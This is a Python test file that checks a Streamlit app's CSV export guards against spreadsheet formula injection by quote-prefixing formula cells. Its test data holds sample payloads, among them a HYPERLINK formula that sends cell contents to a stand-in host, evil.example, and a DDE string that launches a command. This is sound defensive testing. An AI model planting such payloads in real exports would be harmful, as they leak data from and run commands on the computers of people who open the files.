"""Smaller item: a CSV download must not carry a spreadsheet formula.

Search terms come from site visitors and names from tenants' files; a cell such as
`=HYPERLINK("http://evil/?"&A1)` runs when a user opens the download in a spreadsheet.
Every download goes through `widgets.csv_bytes`, which prefixes such cells with `'`."""

from __future__ import annotations

import csv
import io

import pandas as pd

from streamlit_app.lib import widgets


def test_formula_cells_are_prefixed_and_numbers_stay_numbers():
    df = pd.DataFrame(
        {
            "search_term": [
                '=HYPERLINK("http://evil.example/?"&A1,"x")',
                "+1+cmd|'/c calc'!A0",
                "-2+3",
                "@SUM(A1)",
                "\t=1",
                "plain pipe",
            ],
            "searches": [1, -5, 3, 4, 5, 6],
            "=evil header": ["a", "b", "c", "d", "e", "f"],
        }
    )
    rows = list(csv.reader(io.StringIO(widgets.csv_bytes(df).decode("utf-8"))))
    assert rows[0] == ["search_term", "searches", "'=evil header"]
    terms = [r[0] for r in rows[1:]]
    assert terms[:5] == ["'" + t for t in df["search_term"][:5]] and terms[5] == "plain pipe"
    assert [r[1] for r in rows[1:]] == ["1", "-5", "3", "4", "5", "6"]  # a negative number is not text
    assert df["search_term"][0].startswith("=")  # the shown table is untouched
